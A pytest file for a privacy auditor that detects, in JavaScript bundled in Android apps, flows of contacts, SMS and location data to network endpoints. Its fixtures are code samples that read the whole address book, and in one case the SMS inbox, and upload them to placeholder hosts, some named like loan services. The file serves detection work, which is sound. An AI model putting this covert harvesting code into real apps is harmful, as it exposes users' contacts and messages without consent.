"""Data followed through JavaScript: each case is a shape that builds of real apps have."""

# ruff: noqa: E501  lines as bundlers write them

from __future__ import annotations

import pytest

from auditor.catalog import Catalog
from auditor.facts.hybrid.js.apis import js_apis
from auditor.facts.hybrid.js.scripts import Script, ScriptFacts, read_scripts
from auditor.model import DataType, Level, Scope, SinkKind

CATALOG = Catalog()


def facts(*texts: str, html: bool = False) -> ScriptFacts:
    scripts = [
        Script(f"assets/www/{n}.js", "app.apk", t.encode(), html) for n, t in enumerate(texts)
    ]
    return read_scripts(scripts, js_apis(CATALOG))


UNI_APP = """
(function(e){var t={};function n(o){if(t[o])return t[o].exports;var r=t[o]={i:o,l:!1,exports:{}};
return e[o].call(r.exports,r,r.exports,n),r.l=!0,r.exports}n.m=e,n(n.s="main")})({
"main":function(e,t,n){"use strict";n("pages/id")},
"http":function(e,t,n){"use strict";t.ROOT="https://gw.meijie.example/v1";
 t.send=function(p,d){uni.request({url:t.ROOT+p,method:"POST",data:d})}},
"pages/login":function(e,t,n){"use strict";var h=n("http");h.send("/login",{phone:1})},
"pages/id":function(e,t,n){"use strict";var h=n("http");t.default={data:function(){return{rows:[]}},
 methods:{next:function(){var s=this;plus.contacts.getAddressBook(0,function(b){
  b.find(["displayName"],function(cs){cs.forEach(function(c){s.rows.push({nm:c.displayName})});
  h.send("/book",{rows:JSON.stringify(s.rows)})})})}}}}});
"""
WEBPACK = """
(window.webpackJsonp=window.webpackJsonp||[]).push([["app"],{
"0a1b":function(e,t,n){"use strict";n.r(t);var o=n("req1"),r=n.n(o);t.default={data(){return{book:[]}},
 async mounted(){await this.load()},methods:{async load(){const e=await this.pull();
 this.book=e.map(e=>({nm:e.displayName,mb:e.phones}));r.a.post("/v1/bk",{bk:this.book})},
 pull(){return new Promise((e,t)=>{navigator.contacts.find(["*"],n=>{e(n)},t)})}}}},
"req1":function(e,t,n){"use strict";n.r(t);var a=n("bc3a"),i=n.n(a);
 const s=i.a.create({baseURL:"https://gw.shandai.example/api",timeout:5e3});t.default=s},
"bc3a":function(e,t,n){e.exports=n("cee4")},
"cee4":function(e,t,n){"use strict";function s(e){return new a(e)}var u=s(o);u.create=function(e){
 return s(c(u.defaults,e))},u.CancelToken=n("8df4"),u.isCancel=n("2e67"),u.spread=n("0df6"),e.exports=u}
}]);
"""
METRO = """
__d(function(g,r,i,a,m,e,d){var t=r(d[0]);m.exports=t.NativeModules.Contacts},20,[4]);
__d(function(g,r,i,a,m,e,d){e.BASE="https://api.kuaijie.example/v2"},21,[]);
__d(function(g,r,i,a,m,e,d){e.post=function(t,o){return fetch(""+n.BASE+t,{method:"POST",
 body:JSON.stringify(o)})};var n=r(d[0])},22,[21]);
__d(function(g,r,i,a,m,e,d){var t=r(d[0])(r(d[1])),n=r(d[2]);function o(){return regeneratorRuntime.async(
 function(o){for(;;)switch(o.prev=o.next){case 0:return o.next=2,regeneratorRuntime.awrap(
 t.default.getAll());case 2:return s=o.sent,u=s.map(function(t){return{name:t.givenName}}),o.next=6,
 regeneratorRuntime.awrap((0,n.post)("/user/book",{items:u}));case 6:case"end":return o.stop()}});
 var s,u}o()},30,[31,20,22]);
__d(function(g,r,i,a,m,e,d){m.exports=function(t){return t&&t.__esModule?t:{default:t}}},31,[]);
__d(function(g,r,i,a,m,e,d){var n=r(d[0]);n.post("/user/login",{phone:1})},32,[22]);
"""
CLASSES = """
import Contacts from 'react-native-contacts';
import axios from 'axios';
const HOST = 'https://api.cashnow.example';
class Api { constructor(){ this.base = HOST + '/m'; }
  async upload(path, payload){ return axios({ url: `${this.base}/${path}`, method: 'post', data: payload }); } }
const api = new Api();
export async function syncBook() {
  const out = [];
  for (const c of await Contacts.getAll()) { out.push({ n: c.givenName }); }
  await api.upload('contacts/sync', { contacts: out });
}
syncBook();
api.upload('ping', {});
"""
XHR = """
function load(done){ navigator.contacts.find(['*'], done, function(){}, {multiple: true}); }
load(function (cs) { var x = new XMLHttpRequest(); x.open('PUT', 'http://203.0.113.9:8080/' + 'txl');
  x.setRequestHeader('a', 'b'); x.send(JSON.stringify({ list: cs })); });
"""
STORED = """
navigator.contacts.find(['*'], function (cs) { localStorage.setItem('bk', JSON.stringify(cs)); });
function later() { $.post('https://a.example/later', { d: localStorage.getItem('bk') }); }
setTimeout(later, 1000);
"""
GENERATORS = """
var Y=(e,t,r)=>new Promise((n,o)=>{var s=c=>c.done?n(c.value):Promise.resolve(c.value).then(s);s((r=r.apply(e,t)).next())});
function k(){return Y(this,null,function*(){return (yield Capacitor.Plugins.Contacts.getContacts({})).contacts.map(r=>({n:r.name}))})}
function w(){return Y(this,null,function*(){let e=yield k();yield z("/v2/save",{rows:e})})}
var z=(e,t)=>fetch("https://g.example"+e,{method:"POST",body:JSON.stringify(t)});
w();z("/v2/login",{p:1});
"""
ES5_CLASS = """
var A=function(e){function t(){return e.apply(this,arguments)||this}return c(t,e),t}(R.Component);
var t=A;_createClass(t,[{key:"componentDidMount",value:function(){var e=this;
 Contacts.getAllWithoutPhotos().then(function(t){e.up(t)})}},
 {key:"up",value:function(e){fetch("https://k.example/c",{method:"POST",body:JSON.stringify({q:e})})}}]);
"""
TS_ASYNC = """
var __awaiter = function (t, a, P, gen) { return new Promise(function (res) { gen.apply(t, a).next(); }); };
function read() { return __awaiter(this, void 0, void 0, function* () { return yield Capacitor.Plugins.Contacts.getContacts({}); }); }
async function go() { const { contacts } = await read(); await fetch('https://c.example/up', { method: 'POST', body: JSON.stringify(contacts) }); }
document.querySelector('#a').addEventListener('click', go);
"""


@pytest.mark.parametrize(
    ("text", "url", "method", "fields", "trigger"),
    [
        pytest.param(UNI_APP, "https://gw.meijie.example/v1/book", "POST", ("nm", "rows"), "unknown", id="uni-app modules"),
        pytest.param(WEBPACK, "https://gw.shandai.example/api/v1/bk", "POST", ("bk", "mb", "nm"), "screen_start", id="webpack and axios"),
        pytest.param(METRO, "https://api.kuaijie.example/v2/user/book", "POST", ("items", "name"), "screen_start", id="Metro and regenerator"),
        pytest.param(CLASSES, "https://api.cashnow.example/m/contacts/sync", "POST", ("contacts", "n"), "screen_start", id="modules, classes, templates"),
        pytest.param(XHR, "http://203.0.113.9:8080/txl", "PUT", ("list",), "screen_start", id="XMLHttpRequest"),
        pytest.param(STORED, "https://a.example/later", "POST", ("d",), "screen_start", id="through local storage"),
        pytest.param(TS_ASYNC, "https://c.example/up", "POST", (), "click", id="TypeScript's __awaiter"),
    ],
)  # fmt: skip
def test_address_book_to_address(
    text: str, url: str, method: str, fields: tuple[str, ...], trigger: str
) -> None:
    found = facts(text)
    assert [f.endpoint for f in found.flows] == [url]
    flow = found.flows[0]
    assert (flow.data_type, flow.level, flow.sink_kind) == (
        "contacts",
        Level.LINKED,
        SinkKind.NETWORK,
    )
    assert (flow.scope, flow.http_method, flow.fields) == (Scope.BULK, method, fields)
    assert flow.trigger == trigger
    assert flow.steps[0].kind == "source" and flow.steps[-1].kind == "sink"
    assert flow.source.caller == flow.sink.caller == "assets/www/0.js"


@pytest.mark.parametrize("text", [UNI_APP, METRO, CLASSES])
def test_offsets_are_those_of_the_file(text: str) -> None:
    for read in facts(text).reads:
        called = text.encode()[read.site.offset :].decode()
        assert called.partition("(")[0].endswith((".find", ".getAll"))


NATIVE_JS = """
var resolver = plus.android.runtimeMainActivity().getContentResolver();
var CC = plus.android.importClass("android.provider.ContactsContract");
function all() { var out = [], cur = resolver.query(CC.CommonDataKinds.Phone.CONTENT_URI, null);
  while (cur.moveToNext()) out.push({ n: cur.getString(0) }); return out; }
mui.post(BASE + '/user/phones', { list: JSON.stringify(all()) });
var BASE = 'https://mui.example/api';
"""
OWN_MODULE = """
import {NativeModules} from 'react-native';
const {PhoneBook} = NativeModules;
export default class A extends Component {
 componentDidMount(){ PhoneBook.getContacts((list)=>{ this.up(list); }); }
 up(list){ this.$http.post('https://x.example/a', {l: list.map(i=>i.phone)}); } }
"""
NAMED_BRIDGE = """
var request = axios.create({baseURL: 'https://h5.example/gw'});
bridge.callHandler('getContactList', {}, function(resp){
  request({url:'/loan/friends', method:'post', data:{f: JSON.parse(resp).list}}); });
"""
EXPO = """
import * as Contacts from 'expo-contacts';
import axios from 'axios';
const api = axios.create({ baseURL: 'https://expo.example/api/' });
export function useSync(){ useEffect(() => { (async () => {
  const { data } = await Contacts.getContactsAsync({}); await api.post('people', { data }); })(); }, []); }
"""
ANGULAR = """
import { Contacts } from '@capacitor-community/contacts';
const environment = { api: 'https://ng.example/v1' };
export class P { constructor(http){ this.http = http; }
 async sync(){ const r = await Contacts.getContacts({}); const rows = r.contacts.map(c => ({n:c.name}));
  this.http.post(environment.api + '/c', rows).subscribe(); }
 ngOnInit(){ this.sync(); } }
"""
FORM = """
function up(list){ var fd = new FormData(); fd.append('book', JSON.stringify(list)); fd.append('t', 1);
 var xhr = new XMLHttpRequest(); xhr.open('POST', 'https://f.example/ul'); xhr.send(fd); }
navigator.contacts.find(["*"], up, function(){}, {multiple:true});
"""


@pytest.mark.parametrize(
    ("text", "source", "url", "fields"),
    [
        pytest.param(
            NATIVE_JS, "query", "https://mui.example/api/user/phones", ("list", "n"), id="Native.js"
        ),
        pytest.param(
            OWN_MODULE,
            "NativeModules.PhoneBook.getContacts",
            "https://x.example/a",
            ("l",),
            id="a module of the app",
        ),
        pytest.param(
            NAMED_BRIDGE,
            "callHandler",
            "https://h5.example/gw/loan/friends",
            ("f",),
            id="a bridge asked by name",
        ),
        pytest.param(
            EXPO,
            "expo-contacts.getContactsAsync",
            "https://expo.example/api/people",
            ("data",),
            id="Expo",
        ),
        pytest.param(
            ANGULAR, "getContacts", "https://ng.example/v1/c", ("n",), id="Angular and Capacitor"
        ),
        pytest.param(
            FORM, "navigator.contacts.find", "https://f.example/ul", ("book",), id="form data"
        ),
    ],
)
def test_other_readers_and_senders(
    text: str, source: str, url: str, fields: tuple[str, ...]
) -> None:
    assert [(f.source.signature, f.endpoint, f.fields) for f in facts(text).flows] == [
        (source, url, fields)
    ]


def test_java_query_of_messages_through_invoke() -> None:
    text = """var u = plus.android.importClass("android.net.Uri").parse("content://sms/inbox");
    var cur = plus.android.invoke(resolver, "query", u, null);
    uni.request({url: "https://s.example/m", method: "POST", data: plus.android.invoke(cur, "getString", 2)});"""
    found = facts(text)
    assert [(r.rule, r.data_type) for r in found.reads] == [("invoked_sms", "sms")]
    assert [f.endpoint for f in found.flows] == ["https://s.example/m"]


NOT_SENT = """
navigator.contacts.find(['*'], function (cs) { document.title = cs.length; draw(cs); });
function draw(cs) { cs.forEach(function (c) { document.body.appendChild(el(c.displayName)); }); }
function send(o) { fetch('https://a.example/submit', { method: 'POST', body: JSON.stringify(o) }); }
send({ phone: document.getElementById('p').value });
"""
ANSWER = """
navigator.contacts.find(['*'], function (cs) { fetch('https://a.example/x', { method: 'POST', body: cs })
  .then(function (r) { $.post('https://b.example/log', { r: r.status }); }); });
"""
DEAD = """
function never() { navigator.contacts.find(['*'], function (cs) { fetch('https://a.example/x', { body: cs }); }); }
fetch('https://a.example/alive');
"""
OTHER_FIELD = """
var o = {};
navigator.contacts.find(['*'], function (cs) { o.book = cs; });
fetch('https://a.example/x', { method: 'POST', body: o.phone });
"""
OTHER_CALLER = """
function same(x) { return x; }
navigator.contacts.find(['*'], function (cs) { draw(same(cs)); });
fetch('https://a.example/x', { method: 'POST', body: same(document.cookie) });
"""


@pytest.mark.parametrize(
    ("text", "endpoints"),
    [
        pytest.param(NOT_SENT, [], id="shown, while something else is sent"),
        pytest.param(ANSWER, ["https://a.example/x"], id="the answer of the server is other data"),
        pytest.param(DEAD, [], id="a function that nothing uses"),
        pytest.param(OTHER_FIELD, [], id="another property of the same object is sent"),
        pytest.param(OTHER_CALLER, [], id="a shared function gives each caller its own"),
    ],
)
def test_what_is_not_sent(text: str, endpoints: list[str]) -> None:
    assert sorted({f.endpoint for f in facts(text).flows}) == endpoints


def test_call_that_speaks_of_contacts_is_linked_without_a_path() -> None:
    text = "navigator.contacts.find(['*'],function(c){native.keep(c)});fetch('https://a.example/up/address-book',{method:'POST',body:native.kept()});fetch('https://a.example/log')"
    flows = facts(text).flows
    assert [(f.level, f.endpoint) for f in flows] == [
        (Level.LINKED, "https://a.example/up/address-book")
    ]
    assert "no path between them was proved" in flows[0].steps[-1].text


def test_dead_read_is_referenced_only() -> None:
    assert [(r.level, r.data_type) for r in facts(DEAD).reads] == [(Level.REFERENCED, "contacts")]


def test_picked_contact_is_no_bulk_read() -> None:
    text = "navigator.contacts.pickContact(function(c){$.post('https://a.example/one',{n:c.displayName})});"
    flow = facts(text).flows[0]
    assert (flow.scope, flow.fields, flow.endpoint) == (
        Scope.ONE_PICKED,
        ("n",),
        "https://a.example/one",
    )


def test_handler_in_the_page_starts_a_function_of_another_file() -> None:
    page = (
        "<html><body><button onclick=\"go()\">x</button><script src='1.js'></script></body></html>"
    )
    script = "var API='https://p.example';function go(){navigator.contacts.find(['*'],function(c){up('/txl',c)})}"
    sender = "function up(p,d){$.ajax({type:'POST',url:API+p,data:{txl:d}})}"
    scripts = [
        Script("assets/www/index.html", "app.apk", page.encode(), html=True),
        Script("assets/www/1.js", "app.apk", script.encode()),
        Script("assets/www/2.js", "app.apk", sender.encode()),
    ]
    flow = read_scripts(scripts, js_apis(CATALOG)).flows[0]
    assert flow.endpoint == "https://p.example/txl"
    assert flow.trigger == "click"
    assert (flow.source.caller, flow.sink.caller) == ("assets/www/1.js", "assets/www/2.js")


def test_unknown_host_leaves_the_path() -> None:
    text = "navigator.contacts.find(['*'],function(c){fetch(window.cfg.base+'/v1/people',{method:'POST',body:c})});"
    flow = facts(text).flows[0]
    assert flow.endpoint == "/v1/people"


def test_two_possible_hosts_are_candidates() -> None:
    text = "var h=window.t?'https://a.example':'https://b.example';navigator.contacts.find(['*'],function(c){fetch(h+'/x',{body:c})});"
    flow = facts(text).flows[0]
    assert flow.endpoint == ""
    assert flow.endpoint_candidates == ("https://a.example/x", "https://b.example/x")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("navigator.contacts.find(" + "(" * 5000, id="never closed"),
        pytest.param(
            "navigator.contacts.find(['*']," + "function(){" * 3000, id="nested functions"
        ),
        pytest.param("a=navigator.contacts.find" + "+b" * 20000, id="a long sum"),
        pytest.param("x" + ".a" * 20000 + ";navigator.contacts.find", id="a long chain"),
        pytest.param("navigator.contacts.find\x00\xff\ud7ff" * 50, id="no text"),
        pytest.param("var a=" + "[" * 4000 + "navigator.contacts.find", id="nested arrays"),
        pytest.param(
            "f(__d(function(){},1,[]));navigator.contacts.find", id="a module as an argument"
        ),
        pytest.param(
            "(" * 150 + "mark(function(){})" + ";navigator.contacts.find", id="deep wrapper"
        ),
        pytest.param("", id="empty"),
    ],
)
def test_hostile_text_is_read_without_an_error(text: str) -> None:
    assert facts(text).flows == ()


def test_same_on_every_run() -> None:
    assert facts(WEBPACK, XHR) == facts(WEBPACK, XHR)


def test_big_bundle_is_cut_at_its_modules() -> None:
    filler = "".join(
        f'"m{n}":function(e,t,n){{t.f=function(a){{return a+{n}}};' + "var z=1;" * 200 + "},\n"
        for n in range(400)
    )
    text = UNI_APP.replace('"main":function', filler + '"main":function', 1)
    assert len(text) > 600_000
    found = facts(text)
    assert [f.endpoint for f in found.flows] == ["https://gw.meijie.example/v1/book"]
    at = found.flows[0].source.offset
    assert text[at:].startswith("b.find(")


def test_data_types_of_reads() -> None:
    text = "uni.getLocation({success:function(r){uni.request({url:'https://a.example/l',data:{x:r.latitude}})}})"
    assert [(f.data_type, f.endpoint) for f in facts(text).flows] == [
        (DataType("location"), "https://a.example/l")
    ]


def test_big_metro_bundle_is_read_where_the_reader_is_used() -> None:
    filler = "".join(
        f"\n__d(function(g,r,i,a,m,e,d){{e.f=function(a){{return a+{n}}};{'var z=1;' * 150}}},{n},[{n + 1}]);"
        for n in range(1000, 1400)
    )
    text = METRO.replace(
        "\n__d(function(g,r,i,a,m,e,d){e.BASE", filler + "\n__d(function(g,r,i,a,m,e,d){e.BASE"
    )
    assert len(text) > 500_000
    flow = facts(text).flows[0]
    assert flow.endpoint == "https://api.kuaijie.example/v2/user/book"
    assert text[flow.source.offset :].startswith("t.default.getAll()")
    assert text[flow.sink.offset :].startswith("fetch(")
